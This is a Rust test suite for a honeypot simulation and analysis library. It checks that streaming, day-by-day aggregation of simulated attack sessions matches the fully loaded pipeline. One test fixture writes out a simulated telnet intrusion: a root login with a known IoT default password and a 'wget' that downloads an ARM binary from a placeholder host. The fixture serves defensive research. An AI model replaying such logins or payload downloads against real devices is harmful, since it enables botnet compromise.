//! Streaming-vs-materialized differential suite — the oracle behind the
//! out-of-core analysis path (ISSUE 7 tentpole).
//!
//! Three equivalences, all required to be **bit-for-bit**:
//!
//! * `Simulation::run_fold` (day-windowed fold, rows retired as days
//!   complete) against the materialized `Simulation::run` +
//!   `Aggregates::compute`, at scales {0.001, 0.01} — aggregates, tags,
//!   reports, the claims table, and the row-free dataset's pools and
//!   artifact store.
//! * `FoldOutput::from_snapshot_stream` (chunked snapshot reader feeding
//!   the fold, many chunks cut mid-day) against materializing the same
//!   snapshot, which must itself reproduce the simulated run.
//! * A proptest that cutting the rows *anywhere* — mid-day included — into
//!   `StreamingFold::ingest_rows` calls folds to the same state as the
//!   one-shot `Aggregates::compute`: the property the whole streaming
//!   design rests on.
//!
//! Plus the unordered-store rule: `Aggregates::compute` and
//! `cluster::extract` over a store whose rows are out of day order equal
//! the same records ingested in day order.

use std::sync::OnceLock;

use honeyfarm::cluster;
use honeyfarm::core::StreamingFold;
use honeyfarm::geo::{World, WorldConfig};
use honeyfarm::prelude::*;
use honeyfarm::testkit::{
    claims, diff_aggregates, diff_datasets, diff_features, diff_reports, diff_sim_outputs,
    diff_tagdbs, Scenario,
};
use proptest::prelude::*;

/// Run one streaming-vs-materialized differential at the given config.
fn assert_fold_matches(scale: f64, days: u32) {
    let config = SimConfig {
        seed: 0x57e4,
        scale: Scale::of(scale),
        window: StudyWindow::first_days(days),
        ..SimConfig::default()
    };
    let out = Simulation::run(config.clone());
    let agg = Aggregates::compute(&out.dataset);

    let fold = Simulation::run_fold(config);
    let label = "fold";

    assert!(
        fold.dataset.sessions.is_empty(),
        "fold mode must retire every row"
    );
    assert_eq!(out.n_clients, fold.n_clients, "{label}: n_clients");
    diff_aggregates("materialized", &agg, label, &fold.aggregates).assert_identical();
    diff_tagdbs("materialized", &out.tags, label, &fold.tags).assert_identical();

    // Reports built from the row-free dataset + folded aggregates must be
    // byte-identical to the materialized pipeline's.
    let report_mat = Report::build_with_tags(&out.dataset, &agg, &out.tags);
    let report_fold = Report::build_with_tags(&fold.dataset, &fold.aggregates, &fold.tags);
    diff_reports("materialized", &report_mat, label, &report_fold).assert_identical();

    // And the claims context must derive identical headline metrics from
    // both paths. (The full claim-table evaluation indexes absolute paper
    // days, so it only runs on full-window fixtures — `hfarm verify
    // --claims` covers that; here we pin the derived `Claims` and the
    // context's tables, which feed every measure closure.)
    let ctx_mat = claims::ClaimCtx::new(&out);
    let ctx_fold = claims::ClaimCtx::from_parts(&fold.dataset, &fold.tags, fold.aggregates);
    assert_eq!(
        ctx_mat.claims.to_json(),
        ctx_fold.claims.to_json(),
        "{label}: derived Claims diverged"
    );

    // Retiring rows day by day keeps the pools, the plan and the artifact
    // store (first_seen / last_seen / occurrences) of the kept run.
    let mut rowless = out;
    rowless.dataset.sessions.retire_rows();
    diff_datasets("materialized", &rowless.dataset, label, &fold.dataset).assert_identical();
}

#[test]
fn fold_matches_materialized_scale_0_001() {
    assert_fold_matches(0.001, 20);
}

#[test]
fn fold_matches_materialized_scale_0_01() {
    assert_fold_matches(0.01, 8);
}

/// Streaming a snapshot chunk-by-chunk into the fold must equal
/// materializing the whole snapshot and computing over it. 97-row chunks
/// give the fixture many chunks, most of them ending mid-day, so the
/// reader's overlapped arm runs, as it does on every multi-chunk file.
#[test]
fn snapshot_stream_fold_matches_materialized_load() {
    let config = SimConfig::test(10);
    let out = Simulation::run(config.clone());
    let mut bytes = Vec::new();
    out.to_snapshot(&config)
        .write_to_chunked(&mut bytes, 97)
        .expect("write snapshot");

    let materialized = SimOutput::from_snapshot(
        Snapshot::read_from(&mut bytes.as_slice()).expect("materialized load"),
    );
    // The chunked write→read round trip reproduces the run: rows, digests,
    // artifacts, tags and the client count.
    diff_sim_outputs("simulated", &out, "reloaded", &materialized).assert_identical();
    let agg = Aggregates::compute(&materialized.dataset);

    let fold = FoldOutput::from_snapshot_stream(bytes.as_slice()).expect("streaming load");
    assert_eq!(materialized.n_clients, fold.n_clients);
    diff_aggregates("materialized", &agg, "streamed", &fold.aggregates).assert_identical();
    diff_tagdbs("materialized", &materialized.tags, "streamed", &fold.tags).assert_identical();

    // The artifact store must replay identically from the chunked stream
    // (first_seen/last_seen/occurrences all ingest-order-sensitive), which
    // diff_datasets checks alongside pools and plan; the streamed dataset
    // legitimately has no rows, so compare everything else on rowless
    // copies of both.
    let mut rowless = materialized;
    rowless.dataset.sessions.retire_rows();
    diff_datasets("materialized", &rowless.dataset, "streamed", &fold.dataset).assert_identical();

    let report_mat = Report::build_with_tags(&rowless.dataset, &agg, &rowless.tags);
    let report_fold = Report::build_with_tags(&fold.dataset, &fold.aggregates, &fold.tags);
    diff_reports("materialized", &report_mat, "streamed", &report_fold).assert_identical();
}

/// Shared fixture for the partition property: one materialized run and its
/// one-shot aggregates.
fn partition_fixture() -> &'static (SimOutput, Aggregates) {
    static FIXTURE: OnceLock<(SimOutput, Aggregates)> = OnceLock::new();
    FIXTURE.get_or_init(|| {
        let out = Simulation::run(SimConfig::test(12));
        let agg = Aggregates::compute(&out.dataset);
        (out, agg)
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    /// Cut the rows at arbitrary row indices and fold each piece with its
    /// own `ingest_rows` call: bit-identical to the one-shot
    /// `Aggregates::compute`. Cuts come from every row index, so they fall
    /// mid-day the way 64 Ki-row snapshot chunk boundaries do, and every
    /// partition has at least one such cut.
    #[test]
    fn day_window_partitions_assemble_identically(
        mut cuts in prop::collection::vec(1..partition_fixture().0.dataset.len(), 1..16)
    ) {
        let (out, agg) = partition_fixture();
        let store = &out.dataset.sessions;
        let rows = store.rows();
        cuts.sort_unstable();
        cuts.dedup();
        prop_assert!(
            cuts.iter().any(|&c| store.view(c - 1).day() == store.view(c).day()),
            "no cut falls inside a day: {cuts:?}"
        );

        let mut fold = StreamingFold::new(out.dataset.plan.len());
        let mut start = 0;
        for end in cuts.into_iter().chain([rows.len()]) {
            fold.ingest_rows(store, &out.dataset.plan, &rows[start..end]);
            start = end;
        }
        diff_aggregates("one-shot", agg, "partitioned", &fold.finish()).assert_identical();
    }
}

/// Replay `.hfs` scenario texts into one collector, in the given order.
fn ingest_scenarios(texts: &[&str]) -> Dataset {
    let world = World::build(1, &WorldConfig::tiny());
    let mut collector = Collector::new(&world, FarmPlan::paper());
    for text in texts {
        collector.ingest(&Scenario::parse(text).expect("scenario").replay());
    }
    collector.finish()
}

/// A store whose rows are out of day order folds as if its records had
/// been ingested in day order: `compute` and `extract` take a start-sorted
/// copy of the rows. The sessions differ only in day and honeypot, so
/// every interned id is the same whichever comes first, and the repeated
/// client, credential and download make each out-of-order mistake visible
/// (first sightings, daily unique clients, distinct active days).
#[test]
fn unordered_store_folds_as_if_ingested_in_day_order() {
    let session = |day: u32, honeypot: u16| {
        format!(
            "name day{day}\nprotocol telnet\nhoneypot {honeypot}\nclient 198.51.100.66\n\
             start {day} 43200\nlogin root xc3511\ncmd wget http://198.51.100.9/bins/x.arm7\n\
             transfer 20\nclose\n"
        )
    };
    let (day3, day1, day3_again) = (session(3, 13), session(1, 40), session(3, 7));
    let unordered = ingest_scenarios(&[&day3, &day1, &day3_again]);
    assert!(!unordered.sessions.is_day_ordered());
    let ordered = ingest_scenarios(&[&day1, &day3, &day3_again]);
    assert!(ordered.sessions.is_day_ordered());

    diff_aggregates(
        "day order",
        &Aggregates::compute(&ordered),
        "unordered",
        &Aggregates::compute(&unordered),
    )
    .assert_identical();
    diff_features(
        &cluster::extract(&ordered).matrix(),
        &cluster::extract(&unordered).matrix(),
        "day order",
        "unordered",
    )
    .assert_identical();
}
